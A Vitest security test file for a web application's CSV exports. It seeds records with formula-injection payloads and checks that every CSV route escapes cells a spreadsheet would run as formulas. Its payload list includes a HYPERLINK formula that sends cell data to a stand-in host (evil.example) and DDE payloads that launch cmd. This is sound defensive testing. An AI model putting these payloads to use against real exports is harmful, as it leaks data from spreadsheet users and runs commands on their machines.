import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { routeTable } from '../../src/server/plugins/route-contract.ts';
import { outboxInsight } from '../helpers/insights.ts';
import { type Session, startStack, type TestStack } from '../helpers/stack.ts';

/**
 * CSV formula injection through the exports (issue 12 §2): insights whose free text starts with what a
 * spreadsheet would run (=, +, -, @, tab, carriage return), then every CSV export route in the route table
 * (found by its .csv ending, never a hand-kept list) downloaded and parsed: no cell starts with one of those
 * characters unless it is escaped (a leading apostrophe) or a plain number.
 */

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1 tab first',
  '\r=1+1 carriage return first',
  '＝1+1 full-width',
] as const;

/** What a spreadsheet treats as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?(e-?\d+)?%?$/i;

let stack: TestStack;
let ari: Session;
let priya: Session;
let reviewId: string;

beforeAll(async () => {
  stack = await startStack();
  ari = await stack.signIn('ari.levy@example.com');
  // A second admin, so the access review has someone to review the first one.
  await stack.signIn('noah.adeyemi@example.com');
  priya = await stack.signIn('priya.raman@example.com', { auth: 'mfa' });
  for (const [i, payload] of PAYLOADS.entries()) {
    const insight = outboxInsight({
      id: randomUUID(),
      text: payload,
      title: PAYLOADS[(i + 1) % PAYLOADS.length],
      tags: [PAYLOADS[(i + 2) % PAYLOADS.length]?.trim().slice(0, 50)],
      developer: { role: payload.slice(0, 200), company: '=1+1', experience: '@home' },
      priority: i % 2 === 0 ? 'critical' : 'high',
      capturedAt: new Date(Date.now() - (i + 1) * 3_600_000).toISOString(),
    });
    const response = await ari.post('/api/v1/insights', insight);
    expect(response.status, await response.clone().text()).toBe(201);
  }
  const review = await priya.post('/api/v1/access-reviews', {
    name: PAYLOADS[0],
    kind: 'privileged',
    dueAt: new Date(Date.now() + 7 * 86_400_000).toISOString(),
  });
  expect(review.status, await review.clone().text()).toBe(201);
  reviewId = ((await review.json()) as { id: string }).id;
  // Its report exists once it is closed: closed with the undecided items and a note that is a payload too.
  const closed = await priya.post(`/api/v1/access-reviews/${reviewId}/close`, {
    force: true,
    note: PAYLOADS[3],
  });
  expect(closed.status, await closed.clone().text()).toBe(200);
}, 60_000);
afterAll(async () => {
  await stack?.close();
});

/** Values for the path parameters of CSV routes; a new CSV route with another parameter fails until added. */
const PARAMS: Record<string, Record<string, () => string>> = {
  '/api/v1/access-reviews/:id/report.csv': { id: () => reviewId },
};

describe('CSV exports', () => {
  it('escape every cell a spreadsheet would run as a formula, on every CSV route', async () => {
    const routes = routeTable(stack.app).filter((r) => r.method === 'GET' && r.url.endsWith('.csv'));
    expect(routes.map((r) => r.url)).toEqual(
      expect.arrayContaining(['/api/v1/exports/insights.csv', '/api/v1/reports/executive.csv']),
    );
    let escapedPayloads = 0;
    for (const route of routes) {
      const url = route.url.replaceAll(/:(\w+)/g, (_, name: string) => {
        const fill = PARAMS[route.url]?.[name];
        if (!fill) throw new Error(`no value for :${name} of ${route.url}: add one to PARAMS`);
        return encodeURIComponent(fill());
      });
      const response = await priya.get(url);
      const text = await response.text();
      expect(response.status, `${url}: ${text.slice(0, 300)}`).toBe(200);
      expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
      const rows = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
      expect(rows.length, url).toBeGreaterThan(1);
      for (const [r, row] of rows.entries())
        for (const [c, cell] of row.entries()) {
          const unsafe = FORMULA_START.test(cell.trimStart()) && !PLAIN_NUMBER.test(cell);
          expect(unsafe, `${url} row ${r} column ${c}: ${JSON.stringify(cell)}`).toBe(false);
          if (cell.startsWith("'") && PAYLOADS.some((p) => cell.includes(p.trim().slice(0, 12))))
            escapedPayloads += 1;
        }
    }
    // The payloads did reach the files (escaped), so the check above had something to check.
    expect(escapedPayloads).toBeGreaterThanOrEqual(PAYLOADS.length);
  });
});
